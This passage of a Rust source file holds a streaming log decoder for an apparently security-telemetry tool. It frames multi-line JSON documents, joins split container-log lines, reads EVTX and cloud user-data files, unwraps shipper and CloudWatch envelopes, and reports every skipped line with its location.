//! Turns one opened input into normalized events, record by record, counting what was
//! read and locating everything skipped.

use crate::framing::{
    container_log_line, opens_document, read_all_capped, read_line_capped, starts_record, Input,
    JsonScan, Line, LogStream, ReadError, Scanned, MAX_DOCUMENT_DEPTH,
};
use crate::sniff;
use crate::stats::DecodeStats;
use crate::{
    decode_json_reading, decode_text_as, DecodeError, DecodeOptions, RecordCtx, TextState,
};
use pullwatch_model::{Event, Format};
use serde::Deserialize;
use serde_json::value::RawValue;
use std::borrow::Cow;
use std::collections::VecDeque;
use std::io::BufRead;
use std::sync::Arc;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Mode {
    Start,
    Lines,
    Done,
}

/// Lazily decodes one input, so many inputs can be merged by event time without
/// holding any of them whole (JSON documents excepted, which must be parsed whole).
pub struct EventStream {
    input: Input,
    opts: DecodeOptions,
    mode: Mode,
    line_no: u64,
    buf: Vec<u8>,
    text: TextState,
    json_pref: Option<Format>,
    cands: Vec<Format>,
    frame: Frame,
    /// Where a record nested as an escaped string in a shipper's envelope is unescaped,
    /// reused from record to record.
    shipped: Vec<u8>,
    /// A shipper's record is being decoded: an envelope inside it is not opened again
    /// (the prefilter looks behind one envelope, and so must the stream).
    in_envelope: bool,
}

/// What runs from one line to the next before records can be told apart: a JSON
/// document spread over lines, container-log lines split by the runtime, and the lines
/// lost to a broken document until reading can pick up again.
#[derive(Default)]
struct Frame {
    doc: Option<Doc>,
    /// Partial container-log lines being joined, per stream (stdout, stderr).
    partial: [Option<Partial>; 2],
    lost: Option<Lost>,
    /// A document or a partial line was ever started: a chunk decoded on its own is
    /// only right when none was (see `parallel`).
    spanned: bool,
    /// Bytes of lines given to the framing, and of lines given back to be read again
    /// after a broken document. Lines read again are capped by the lines read plus
    /// [`REREAD_SLACK`]: input made of documents that each break after opening the next
    /// (a line of `{` after another) could otherwise have every line read once per
    /// open level.
    fed: u64,
    reread: u64,
}

/// What may be read again beyond one reading of the input: enough for any genuine
/// run of broken documents, small next to what a hostile one could ask for.
const REREAD_SLACK: u64 = 1 << 20;

struct Doc {
    scan: JsonScan,
    /// Past `max_document_bytes`: its lines are followed to its end but not held, and
    /// counted as lost (in `Frame::lost`).
    oversized: bool,
    text: Vec<u8>,
    /// Each line of the document: its number in the input and its offset in `text`.
    lines: Vec<(u64, usize)>,
}

struct Partial {
    first_line: u64,
    buf: Vec<u8>,
    /// Bytes joined so far, held or not: past `max_line_bytes` they are only counted.
    len: u64,
}

/// Lines of a broken document, from `first` to `last`, that no record could be read
/// from. The skip is located at `first`, which its message names first (every line
/// number in it is the input's, not counted from the document's start).
struct Lost {
    reason: &'static str,
    first: u64,
    last: u64,
    detail: String,
}

impl EventStream {
    pub fn new(input: Input, opts: DecodeOptions) -> EventStream {
        EventStream {
            input,
            opts,
            mode: Mode::Start,
            line_no: 0,
            buf: Vec::new(),
            text: TextState::default(),
            json_pref: None,
            cands: Vec::new(),
            frame: Frame::default(),
            shipped: Vec::new(),
            in_envelope: false,
        }
    }

    /// A stream that is handed its lines by the caller (see [`EventStream::decode_lines`])
    /// instead of reading them: parallel decoding cuts an input into chunks of whole
    /// lines and decodes each with the same per-record logic.
    pub fn detached(path: Arc<str>, opts: DecodeOptions) -> EventStream {
        let mut s = EventStream::new(
            Input {
                path,
                size: None,
                reader: Box::new(std::io::empty()),
            },
            opts,
        );
        s.mode = Mode::Lines;
        s
    }

    /// Decodes `bytes`, whole lines of this input (the last one may lack its `\n`), the
    /// first of which is line `first_line`. Text-format state carries over between calls,
    /// so consecutive chunks decode as one input would.
    pub fn decode_lines(
        &mut self,
        bytes: &[u8],
        first_line: u64,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) {
        self.mode = Mode::Lines;
        self.line_no = first_line.saturating_sub(1);
        if bytes.is_empty() {
            return;
        }
        let body = bytes.strip_suffix(b"\n").unwrap_or(bytes);
        // Only the input's last line can lack its newline, and only the last chunk ends
        // without one.
        let unterminated = u64::from(!bytes.ends_with(b"\n"));
        let last = body.len();
        for line in split_lines(body) {
            let newline = if offset_of_bytes(body, line) + line.len() == last {
                1 - unterminated
            } else {
                1
            };
            self.line_no += 1;
            if line.len() > self.opts.max_line_bytes {
                stats.bytes += line.len() as u64 + newline;
                stats.skip(
                    "line too long",
                    &self.input.path,
                    self.line_no,
                    format!("{} bytes, limit {}", line.len(), self.opts.max_line_bytes),
                );
                continue;
            }
            // Counted as the line reader counts: without a CRLF's `\r`.
            let line = line.strip_suffix(b"\r").unwrap_or(line);
            stats.bytes += line.len() as u64 + newline;
            self.feed_raw(self.line_no, line, out, stats);
        }
    }

    /// True when a multi-line document or a split container-log line was started since
    /// the stream was made: what this stream decoded depends on lines before or after
    /// the ones it was given.
    pub fn spanned_lines(&self) -> bool {
        self.frame.spanned
    }

    /// True when nothing is held from one line for the next (no open document, partial
    /// line or broken-document run): the next line can be decoded by a fresh stream.
    pub fn between_records(&self) -> bool {
        self.frame.doc.is_none()
            && self.frame.lost.is_none()
            && self.frame.partial.iter().all(Option::is_none)
    }

    /// Emits what multi-line text formats still hold: the end of the input.
    pub fn finish_detached(&mut self, out: &mut Vec<Event>, stats: &mut DecodeStats) {
        self.finish(out, stats);
    }

    pub fn path(&self) -> &Arc<str> {
        &self.input.path
    }

    pub fn size(&self) -> Option<u64> {
        self.input.size
    }

    /// Decodes up to `max_lines` more lines (or the whole document) into `out`.
    /// Returns `false` once the input is exhausted.
    pub fn fill(
        &mut self,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
        max_lines: usize,
    ) -> Result<bool, ReadError> {
        if self.mode == Mode::Done {
            return Ok(false);
        }
        // A Windows event log is binary and only readable whole.
        // User data (a script, a cloud-config, MIME) is inspected as one document.
        if self.mode == Mode::Start {
            let (evtx, user_data) = match self.input.reader.fill_buf() {
                Ok(head) => (
                    head.starts_with(crate::sysmon::EVTX_MAGIC),
                    crate::framing::is_user_data(head),
                ),
                Err(e) => return self.read_failed(e, 1, out, stats),
            };
            if evtx {
                return self.read_evtx(out, stats);
            }
            if user_data {
                return self.read_user_data(out, stats);
            }
        }
        let mut lines = 0;
        while lines < max_lines {
            let r = match read_line_capped(
                &mut *self.input.reader,
                &mut self.buf,
                self.opts.max_line_bytes,
            ) {
                Ok(r) => r,
                Err(e) => return self.read_failed(e, self.line_no + 1, out, stats),
            };
            match r {
                Line::Eof => {
                    self.finish(out, stats);
                    return Ok(false);
                }
                Line::TooLong(n) => {
                    self.line_no += 1;
                    stats.bytes += n + 1;
                    stats.skip(
                        "line too long",
                        &self.input.path,
                        self.line_no,
                        format!("{n} bytes, limit {}", self.opts.max_line_bytes),
                    );
                    self.mode = Mode::Lines;
                }
                Line::Complete | Line::Unterminated => {
                    self.line_no += 1;
                    stats.bytes += self.buf.len() as u64 + u64::from(r == Line::Complete);
                    self.mode = Mode::Lines;
                    let buf = std::mem::take(&mut self.buf);
                    self.feed_raw(self.line_no, &buf, out, stats);
                    self.buf = buf;
                }
            }
            lines += 1;
        }
        Ok(true)
    }

    /// A whole file of user data becomes one event, tied to the instance its path
    /// names when it names one. Read up to the line limit: user data is tens of KiB on
    /// every cloud.
    fn read_user_data(
        &mut self,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) -> Result<bool, ReadError> {
        self.mode = Mode::Done;
        let path = self.input.path.clone();
        let bytes = match read_all_capped(&mut *self.input.reader, self.opts.max_line_bytes) {
            Ok(b) => b,
            Err(e) => return self.read_failed(e, 1, out, stats),
        };
        let Some(bytes) = bytes else {
            stats.skip(
                "document too large",
                &path,
                1,
                format!("user data over {} bytes", self.opts.max_line_bytes),
            );
            return Ok(false);
        };
        stats.bytes += bytes.len() as u64;
        let seen = crate::user_data::seen_from_file(&path, &bytes);
        let dedupe = seen
            .instance_id
            .as_ref()
            .map(|id| format!("user-data:{id}").into_boxed_str());
        let mut e = Event::new(
            pullwatch_model::Ts(0),
            RecordCtx {
                path: path.clone(),
                line: 1,
            }
            .source(Format::UserData),
            pullwatch_model::EventKind::UserData(seen),
        );
        e.dedupe = dedupe;
        out.push(e);
        stats.record(Format::UserData, 1);
        Ok(false)
    }

    fn read_evtx(
        &mut self,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) -> Result<bool, ReadError> {
        self.mode = Mode::Done;
        let path = self.input.path.clone();
        let bytes = read_all_capped(&mut *self.input.reader, self.opts.max_document_bytes)
            .map_err(|source| ReadError::Io {
                path: path.to_string(),
                source,
            })?;
        match bytes {
            Some(b) => {
                stats.bytes += b.len() as u64;
                crate::sysmon::decode_evtx(&path, b, out, stats);
            }
            None => stats.skip(
                "document too large",
                &path,
                1,
                format!("EVTX file over {} bytes", self.opts.max_document_bytes),
            ),
        }
        Ok(false)
    }

    /// A read error ends the input. Hitting the decompression cap is the input's
    /// fault, not the reader's: it becomes a located skip and what was read counts.
    fn read_failed(
        &mut self,
        e: std::io::Error,
        line: u64,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) -> Result<bool, ReadError> {
        match crate::DecompressedLimit::of(&e) {
            Some(max) => {
                stats.skip(
                    "decompressed size limit",
                    &self.input.path,
                    line,
                    format!(
                        "input decompresses to more than {max} bytes (max_decompressed_bytes); the rest is not read"
                    ),
                );
                self.finish(out, stats);
                Ok(false)
            }
            None => {
                self.mode = Mode::Done;
                Err(ReadError::Io {
                    path: self.input.path.to_string(),
                    source: e,
                })
            }
        }
    }

    fn finish(&mut self, out: &mut Vec<Event>, stats: &mut DecodeStats) {
        self.mode = Mode::Done;
        self.end_framing(out, stats);
        let before = out.len();
        self.text.flush(&self.input.path, out);
        for e in out.get(before..).unwrap_or_default() {
            stats.formats.entry(e.source.format).or_default().events += 1;
        }
    }

    /// One line as read from the input: a container runtime's prefix is taken off and
    /// split lines are joined before the record behind them is read. A joined record is
    /// located at its first line, where it starts.
    fn feed_raw(
        &mut self,
        line_no: u64,
        bytes: &[u8],
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) {
        let Some(cl) = container_log_line(bytes) else {
            return self.feed(line_no, bytes, out, stats);
        };
        let max = self.opts.max_line_bytes;
        let slot = &mut self.frame.partial[match cl.stream {
            LogStream::Stdout => 0,
            LogStream::Stderr => 1,
        }];
        let payload = cl.payload;
        if cl.partial {
            self.frame.spanned = true;
            let p = slot.get_or_insert_with(|| Partial {
                first_line: line_no,
                buf: Vec::new(),
                len: 0,
            });
            p.len += payload.len() as u64;
            if p.len > max as u64 {
                // Only counted from here on: a run of partial lines that never ends
                // cannot grow memory past the line limit.
                p.buf = Vec::new();
            } else {
                p.buf.extend_from_slice(&payload);
            }
            return;
        }
        match slot.take() {
            None => self.feed(line_no, &payload, out, stats),
            Some(mut p) => {
                p.len += payload.len() as u64;
                if p.len > max as u64 {
                    stats.skip(
                        "line too long",
                        &self.input.path,
                        p.first_line,
                        format!(
                            "{} bytes joined from partial container-log lines {}-{line_no}, limit {max}",
                            p.len, p.first_line
                        ),
                    );
                    return;
                }
                p.buf.extend_from_slice(&payload);
                self.feed(p.first_line, &p.buf, out, stats);
            }
        }
    }

    /// One logical line: part of a document, the first line of one, or a record. Lines
    /// a broken document gives back are read again here, in order.
    fn feed(&mut self, line_no: u64, bytes: &[u8], out: &mut Vec<Event>, stats: &mut DecodeStats) {
        self.frame.fed += bytes.len() as u64 + 1;
        let again = self.step(line_no, Cow::Borrowed(bytes), out, stats);
        self.read_again(again, out, stats);
    }

    /// Reads lines a broken document gave back, in order, before any new line.
    fn read_again(
        &mut self,
        mut again: VecDeque<(u64, Vec<u8>)>,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) {
        while let Some((n, b)) = again.pop_front() {
            let mut more = self.step(n, Cow::Owned(b), out, stats);
            more.append(&mut again);
            again = more;
        }
    }

    fn step(
        &mut self,
        line_no: u64,
        bytes: Cow<'_, [u8]>,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) -> VecDeque<(u64, Vec<u8>)> {
        if let Some(doc) = self.frame.doc.as_mut().filter(|d| d.oversized) {
            let scanned = doc.scan.line(&bytes);
            let lost = self.frame.lost.as_mut();
            match scanned {
                Scanned::Open => {
                    if let Some(l) = lost {
                        l.last = line_no;
                    }
                    return VecDeque::new();
                }
                Scanned::Closed(end) => {
                    if let Some(l) = lost {
                        l.last = line_no;
                    }
                    return self.document_closed(&bytes, end, line_no, stats);
                }
                Scanned::Broken => {
                    // Read again: a record start ends the lost run, anything else
                    // joins it.
                    self.frame.doc = None;
                    return VecDeque::from([(line_no, bytes.into_owned())]);
                }
            }
        }
        if let Some(doc) = self.frame.doc.as_mut() {
            let at = doc.text.len();
            doc.lines.push((line_no, at));
            let scanned = doc.scan.line(&bytes);
            match scanned {
                Scanned::Open => {
                    doc.text.extend_from_slice(&bytes);
                    doc.text.push(b'\n');
                    // The line table counts too: a document of blank lines must not
                    // grow it past the limit the text alone would never reach.
                    let held =
                        doc.text.len() + doc.lines.len() * std::mem::size_of::<(u64, usize)>();
                    if held > self.opts.max_document_bytes {
                        // Still a document, only too large to hold: the whole of it is
                        // lost, up to where it ends.
                        let first = doc.lines.first().map_or(line_no, |l| l.0);
                        let detail = format!(
                            "JSON document from line {first} over {} bytes",
                            self.opts.max_document_bytes
                        );
                        self.give_up_doc("document too large", detail, line_no, stats);
                    } else if doc.scan.deepest() > MAX_DOCUMENT_DEPTH {
                        self.too_deep(line_no, stats);
                    }
                    return VecDeque::new();
                }
                Scanned::Closed(end) if doc.scan.deepest() > MAX_DOCUMENT_DEPTH => {
                    // Too deep to parse, and closed on this line: lost, the rest read.
                    self.too_deep(line_no, stats);
                    return self.document_closed(&bytes, end, line_no, stats);
                }
                Scanned::Closed(end) => {
                    let (body, rest) = bytes.split_at(end.min(bytes.len()));
                    doc.text.extend_from_slice(body);
                    let rest = rest.to_vec();
                    let mut again = self.end_doc(out, stats);
                    if !rest.trim_ascii().is_empty() {
                        // What follows the document on its last line (a file without a
                        // final newline, concatenated with the next) is read on its own.
                        again.push_front((line_no, rest));
                    }
                    return again;
                }
                Scanned::Broken => {
                    doc.text.extend_from_slice(&bytes);
                    doc.text.push(b'\n');
                    let first = doc.lines.first().map_or(line_no, |l| l.0);
                    let detail = format!(
                        "JSON document from line {first} cut short: line {line_no} cannot continue it"
                    );
                    return self.break_doc("invalid JSON", detail, stats);
                }
            }
        }
        if let Some(lost) = self.frame.lost.as_mut() {
            if bytes.trim_ascii().is_empty() {
                return VecDeque::new();
            }
            if !starts_record(&bytes) {
                lost.last = line_no;
                return VecDeque::new();
            }
            self.flush_lost(stats);
        }
        if opens_document(&bytes) {
            self.frame.spanned = true;
            let mut scan = JsonScan::default();
            scan.line(&bytes);
            let mut text = bytes.into_owned();
            text.push(b'\n');
            let deep = scan.deepest() > MAX_DOCUMENT_DEPTH;
            self.frame.doc = Some(Doc {
                scan,
                oversized: false,
                text,
                lines: vec![(line_no, 0)],
            });
            if deep {
                self.too_deep(line_no, stats);
            }
            return VecDeque::new();
        }
        self.line(line_no, &bytes, out, stats);
        VecDeque::new()
    }

    /// The open document cannot be parsed, whatever follows: it is followed to its end
    /// without being held, and all of it is lost, in one skip.
    fn give_up_doc(
        &mut self,
        reason: &'static str,
        detail: String,
        line_no: u64,
        stats: &mut DecodeStats,
    ) {
        let Some(doc) = self.frame.doc.as_mut() else {
            return;
        };
        let first = doc.lines.first().map_or(line_no, |l| l.0);
        doc.oversized = true;
        doc.text = Vec::new();
        doc.lines = Vec::new();
        self.flush_lost(stats);
        self.frame.lost = Some(Lost {
            reason,
            first,
            last: line_no,
            detail,
        });
    }

    /// Nested deeper than serde_json parses: lost to its end, never read again (a run
    /// of lines that each open a value would otherwise be read again once per level).
    fn too_deep(&mut self, line_no: u64, stats: &mut DecodeStats) {
        let first = self
            .frame
            .doc
            .as_ref()
            .and_then(|d| d.lines.first())
            .map_or(line_no, |l| l.0);
        let detail = format!(
            "JSON document from line {first} nested deeper than {MAX_DOCUMENT_DEPTH} levels at line {line_no}"
        );
        self.give_up_doc("invalid JSON", detail, line_no, stats);
    }

    /// A document that cannot be completed costs its own lines: they are counted as
    /// lost from its first line on, and reading picks up again at the first of them
    /// that starts a record, which is read again.
    fn break_doc(
        &mut self,
        reason: &'static str,
        detail: String,
        stats: &mut DecodeStats,
    ) -> VecDeque<(u64, Vec<u8>)> {
        let Some(doc) = self.frame.doc.take() else {
            return VecDeque::new();
        };
        if doc.oversized {
            // Already counted as lost, from its first line on.
            return VecDeque::new();
        }
        self.lose_from(&doc, 0, reason, detail, stats)
    }

    /// Counts the document's lines from its `from`-th on as lost, up to the first one
    /// after it that starts a record; returns that line and the ones after it.
    fn lose_from(
        &mut self,
        doc: &Doc,
        from: usize,
        reason: &'static str,
        detail: String,
        stats: &mut DecodeStats,
    ) -> VecDeque<(u64, Vec<u8>)> {
        self.flush_lost(stats);
        let first = doc.lines.get(from).map_or(0, |l| l.0);
        let line_text = |i: usize| -> &[u8] {
            let start = doc.lines.get(i).map_or(0, |l| l.1);
            let end = doc
                .lines
                .get(i + 1)
                .map_or(doc.text.len(), |l| l.1.saturating_sub(1));
            let t = doc.text.get(start..end.max(start)).unwrap_or_default();
            t.strip_suffix(b"\n").unwrap_or(t)
        };
        let resume = (from + 1..doc.lines.len())
            .find(|&i| starts_record(line_text(i)))
            .filter(|&r| {
                let again = (doc.text.len() - doc.lines.get(r).map_or(0, |l| l.1)) as u64;
                let allowed = self.frame.reread + again <= self.frame.fed + REREAD_SLACK;
                if allowed {
                    self.frame.reread += again;
                }
                allowed
            });
        let last_lost = resume.unwrap_or(doc.lines.len()).saturating_sub(1);
        self.frame.lost = Some(Lost {
            reason,
            first,
            last: doc.lines.get(last_lost).map_or(first, |l| l.0),
            detail,
        });
        match resume {
            None => VecDeque::new(),
            Some(r) => (r..doc.lines.len())
                .map(|i| (doc.lines[i].0, line_text(i).to_vec()))
                .collect(),
        }
    }

    /// A document ended at byte `end` of line `line_no`: what was lost before it is
    /// reported, and the rest of the line (another file glued on without a newline) is
    /// handed back to be read as a line of its own.
    fn document_closed(
        &mut self,
        bytes: &[u8],
        end: usize,
        line_no: u64,
        stats: &mut DecodeStats,
    ) -> VecDeque<(u64, Vec<u8>)> {
        self.frame.doc = None;
        self.flush_lost(stats);
        let rest = bytes.get(end..).unwrap_or_default();
        let mut again = VecDeque::new();
        if !rest.trim_ascii().is_empty() {
            again.push_back((line_no, rest.to_vec()));
        }
        again
    }

    fn flush_lost(&mut self, stats: &mut DecodeStats) {
        if let Some(l) = self.frame.lost.take() {
            let lines = if l.first == l.last {
                format!("line {}", l.first)
            } else {
                format!("lines {}-{}", l.first, l.last)
            };
            stats.skip(
                l.reason,
                &self.input.path,
                l.first,
                format!("{}; {lines} skipped", l.detail),
            );
        }
    }

    /// The document closed: its values are decoded; one that fails to parse costs the
    /// lines from its start to the next that starts a record.
    fn end_doc(
        &mut self,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) -> VecDeque<(u64, Vec<u8>)> {
        let Some(doc) = self.frame.doc.take() else {
            return VecDeque::new();
        };
        let first_line = doc.lines.first().map_or(0, |l| l.0);
        let Ok(text) = std::str::from_utf8(&doc.text) else {
            let at = std::str::from_utf8(&doc.text)
                .err()
                .map_or(0, |e| e.valid_up_to());
            let bad = doc.lines.partition_point(|l| l.1 <= at).saturating_sub(1);
            let line = doc.lines.get(bad).map_or(first_line, |l| l.0);
            return self.lose_from(
                &doc,
                0,
                "invalid UTF-8",
                format!("JSON document from line {first_line}: invalid byte on line {line}"),
                stats,
            );
        };
        let mut lines = LineCounter::new(&doc.lines);
        let mut de = serde_json::Deserializer::from_str(text).into_iter::<&RawValue>();
        loop {
            let offset = de.byte_offset();
            match de.next() {
                None => return VecDeque::new(),
                Some(Ok(v)) => {
                    let line = lines.line_at(offset_of(text, v.get()).unwrap_or(offset));
                    self.json_unit(text, v.get(), line, &mut lines, out, stats);
                }
                Some(Err(e)) => {
                    // serde counts lines from the document's start: the message gives
                    // the input's line, the one the skip is located at.
                    let err_line = doc
                        .lines
                        .get(e.line().saturating_sub(1))
                        .map_or(first_line, |l| l.0);
                    let msg = e.to_string();
                    let msg = msg.split(" at line ").next().unwrap_or(&msg);
                    let from = doc
                        .lines
                        .partition_point(|l| l.1 <= offset)
                        .saturating_sub(1);
                    let start = doc.lines.get(from).map_or(first_line, |l| l.0);
                    let detail = format!(
                        "JSON document from line {start}: {msg} at line {err_line} column {}",
                        e.column()
                    );
                    let again = self.lose_from(&doc, from, "invalid JSON", detail, stats);
                    return again;
                }
            }
        }
    }

    /// The end of the input: an open document is broken there, partial lines that
    /// never ended are skipped.
    fn end_framing(&mut self, out: &mut Vec<Event>, stats: &mut DecodeStats) {
        while let Some(doc) = &self.frame.doc {
            let first = doc.lines.first().map_or(0, |l| l.0);
            let detail =
                format!("JSON document from line {first} cut short by the end of the input");
            let again = self.break_doc("invalid JSON", detail, stats);
            self.read_again(again, out, stats);
        }
        self.flush_lost(stats);
        for p in self.frame.partial.iter_mut().filter_map(Option::take) {
            stats.skip(
                "partial line never completed",
                &self.input.path,
                p.first_line,
                format!(
                    "{} bytes of partial container-log lines and no final line",
                    p.len
                ),
            );
        }
    }

    fn line(&mut self, line_no: u64, bytes: &[u8], out: &mut Vec<Event>, stats: &mut DecodeStats) {
        let Ok(text) = std::str::from_utf8(bytes) else {
            let at = std::str::from_utf8(bytes)
                .err()
                .map_or(0, |e| e.valid_up_to());
            stats.skip(
                "invalid UTF-8",
                &self.input.path,
                line_no,
                format!("invalid byte at column {}", at + 1),
            );
            return;
        };
        let trimmed = text.trim();
        if trimmed.is_empty() {
            return;
        }
        if trimmed.starts_with('{') || trimmed.starts_with('[') {
            let starts = [(line_no, 0)];
            let mut lc = LineCounter::new(&starts);
            self.json_unit(trimmed, trimmed, line_no, &mut lc, out, stats);
        } else {
            self.text_line(line_no, text, out, stats);
        }
    }

    /// A JSON value that is a record, an array of records, or a known wrapper around
    /// records (`{"Records":[…]}`, `{"records":[…]}`, `{"kind":"EventList","items":[…]}`,
    /// CloudWatch Logs' `{"messageType":…,"logEvents":[…]}`).
    fn json_unit(
        &mut self,
        doc: &str,
        text: &str,
        line: u64,
        lines: &mut LineCounter,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) {
        // A record whose opening names its format is not a list wrapper.
        let leading = sniff::leading(text);
        let elements: Option<Vec<&RawValue>> = if text.starts_with('[') {
            match serde_json::from_str::<Vec<&RawValue>>(text) {
                Ok(v) => Some(v),
                Err(e) => {
                    stats.skip("invalid JSON", &self.input.path, line, e.to_string());
                    return;
                }
            }
        } else if leading.is_none() && may_be_wrapper(text) {
            unwrap_list(text)
        } else {
            None
        };
        match elements {
            Some(items) => {
                for item in items {
                    let item_line = offset_of(doc, item.get()).map_or(line, |o| lines.line_at(o));
                    let item = item.get();
                    let item_leading = sniff::leading(item);
                    self.json_record(item, item_leading, item_line, out, stats);
                }
            }
            None => self.json_record(text, leading, line, out, stats),
        }
    }

    /// `leading` is what the record's opening says of its format ([`sniff::leading`]).
    fn json_record(
        &mut self,
        text: &str,
        leading: Option<sniff::Leading>,
        line: u64,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) {
        let ctx = RecordCtx {
            path: self.input.path.clone(),
            line,
        };
        let mut first_err: Option<(Format, DecodeError)> = None;
        // Decodes as `format`; `true` when that succeeded and the record is done.
        let reading = self.opts.reading;
        let mut attempt = |format: Format, out: &mut Vec<Event>, stats: &mut DecodeStats| {
            let before = out.len();
            let mut format = format;
            let mut redirected = false;
            loop {
                match decode_json_reading(format, text, &ctx, reading, out) {
                    Ok(()) => {
                        stats.record(format, out.len() - before);
                        return true;
                    }
                    // Followed once: the format named is the record's, so its own
                    // error (if any) is the one that explains a skip.
                    Err(DecodeError::OtherFormat(other)) if !redirected && other != format => {
                        out.truncate(before);
                        format = other;
                        redirected = true;
                    }
                    Err(e) => {
                        out.truncate(before);
                        first_err.get_or_insert((format, e));
                        return false;
                    }
                }
            }
        };
        if let Some(l) = leading {
            if attempt(l.format, out, stats) {
                self.json_pref = Some(l.format);
                return;
            }
            if l.certain {
                if let Some((format, e)) = first_err {
                    skip_decode_error(stats, &ctx, format, &e);
                }
                return;
            }
        }
        if leading.is_none() && !self.in_envelope && self.shipped_record(text, line, out, stats) {
            return;
        }
        let named = leading.map(|l| l.format);
        sniff::json_candidates(text, self.json_pref, &mut self.cands);
        for &format in &self.cands {
            if Some(format) != named && attempt(format, out, stats) {
                self.json_pref = Some(format);
                return;
            }
        }
        match first_err {
            Some((format, e)) => skip_decode_error(stats, &ctx, format, &e),
            None => match serde_json::from_str::<serde::de::IgnoredAny>(text) {
                Err(e) => stats.skip("invalid JSON", &ctx.path, line, e.to_string()),
                Ok(_) => stats.skip(
                    "unrecognized JSON record",
                    &ctx.path,
                    line,
                    crate::util::truncate(text, 80),
                ),
            },
        }
    }

    /// A shipper's envelope around a record that claims no format of its own (see
    /// [`crate::framing::shipper_payload_into`]): the record inside is read as though it
    /// were the line, at the line's place in the input. `false` when `text` is no
    /// envelope.
    fn shipped_record(
        &mut self,
        text: &str,
        line: u64,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) -> bool {
        let mut buf = std::mem::take(&mut self.shipped);
        let found = match crate::framing::shipper_payload_str(text, &mut buf) {
            Some((shipper, record)) => {
                stats.shipped(shipper);
                self.in_envelope = true;
                self.line(line, record, out, stats);
                self.in_envelope = false;
                true
            }
            None => false,
        };
        self.shipped = buf;
        found
    }

    fn text_line(
        &mut self,
        line_no: u64,
        text: &str,
        out: &mut Vec<Event>,
        stats: &mut DecodeStats,
    ) {
        let ctx = RecordCtx {
            path: self.input.path.clone(),
            line: line_no,
        };
        let mut cands = std::mem::take(&mut self.cands);
        sniff::text_candidates(text, &mut cands);
        if let Some(last) = self.text.last {
            if !cands.contains(&last) {
                cands.insert(0, last);
            }
        }
        let mut first_err: Option<(Format, DecodeError)> = None;
        for &format in &cands {
            let before = out.len();
            match decode_text_as(format, text, &ctx, &mut self.text, out) {
                Ok(()) => {
                    stats.record(format, out.len() - before);
                    self.text.last = Some(format);
                    self.cands = cands;
                    return;
                }
                Err(e) => {
                    out.truncate(before);
                    first_err.get_or_insert((format, e));
                }
            }
        }
        self.cands = cands;
        match first_err {
            Some((format, e)) => skip_decode_error(stats, &ctx, format, &e),
            None => stats.skip(
                "unrecognized line",
                &ctx.path,
                ctx.line,
                crate::util::truncate(text, 80),
            ),
        }
    }
}

/// The `\n`-separated pieces of `bytes` (as `split` gives them), found with memchr.
pub(crate) fn split_lines(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut rest = Some(bytes);
    std::iter::from_fn(move || {
        let r = rest?;
        match memchr::memchr(b'\n', r) {
            Some(i) => {
                rest = r.get(i + 1..);
                r.get(..i)
            }
            None => {
                rest = None;
                Some(r)
            }
        }
    })
}

fn skip_decode_error(stats: &mut DecodeStats, ctx: &RecordCtx, format: Format, e: &DecodeError) {
    let reason = match e {
        DecodeError::Json(_) => "invalid JSON".to_string(),
        DecodeError::Missing(f) => format!("{format}: missing field {f}"),
        DecodeError::Time(_) => format!("{format}: bad timestamp"),
        DecodeError::Invalid(_) => format!("{format}: invalid record"),
        DecodeError::OtherFormat(other) => format!("{format}: a {other} record"),
        DecodeError::NotTelemetry(what) => format!("{format}: {what}"),
    };
    stats.skip(&reason, &ctx.path, ctx.line, e.to_string());
}

/// Byte offset of `part` inside `whole`, of which it is a sub-slice.
fn offset_of_bytes(whole: &[u8], part: &[u8]) -> usize {
    (part.as_ptr() as usize).saturating_sub(whole.as_ptr() as usize)
}

/// Byte offset of `part` inside `whole`, when `part` is a sub-slice of it.
fn offset_of(whole: &str, part: &str) -> Option<usize> {
    let w = whole.as_ptr() as usize;
    let p = part.as_ptr() as usize;
    (p >= w && p + part.len() <= w + whole.len()).then(|| p - w)
}

/// The wrapper keys are searched with finders built once (building one costs more
/// than a search through a record).
fn may_be_wrapper(text: &str) -> bool {
    static FINDERS: std::sync::OnceLock<[memchr::memmem::Finder<'static>; 4]> =
        std::sync::OnceLock::new();
    let finders = FINDERS.get_or_init(|| {
        [
            "\"Records\":",
            "\"records\":",
            "\"items\":",
            "\"logEvents\":",
        ]
        .map(memchr::memmem::Finder::new)
    });
    let b = text.as_bytes();
    finders.iter().any(|f| f.find(b).is_some())
}

/// The records inside a list wrapper, or `None` when the object is a record itself.
fn unwrap_list(text: &str) -> Option<Vec<&RawValue>> {
    #[derive(Deserialize)]
    struct Wrapper<'a> {
        #[serde(rename = "Records", borrow, default)]
        records_upper: Option<Vec<&'a RawValue>>,
        #[serde(borrow, default)]
        records: Option<Vec<&'a RawValue>>,
        #[serde(borrow, default)]
        items: Option<Vec<&'a RawValue>>,
        #[serde(borrow, default)]
        kind: Option<&'a str>,
        /// A CloudWatch Logs subscription or export batch (EKS control-plane logs):
        /// each of `logEvents` holds one logged line in `message`.
        #[serde(rename = "logEvents", borrow, default)]
        log_events: Option<Vec<&'a RawValue>>,
        #[serde(rename = "messageType", borrow, default)]
        message_type: Option<&'a str>,
    }
    let w: Wrapper = serde_json::from_str(text).ok()?;
    if let Some(r) = w.records_upper.or(w.records) {
        return Some(r);
    }
    if let Some(events) = w.log_events {
        // CloudWatch's own health checks of the subscription carry no logged line.
        if w.message_type == Some("CONTROL_MESSAGE") {
            return Some(Vec::new());
        }
        return Some(events);
    }
    match (w.kind, w.items) {
        (Some(k), Some(items)) if k.ends_with("List") => Some(items),
        _ => None,
    }
}

/// Maps byte offsets in a document to the input's line numbers, from the offset at
/// which each of its lines starts.
struct LineCounter<'a> {
    starts: &'a [(u64, usize)],
}

impl<'a> LineCounter<'a> {
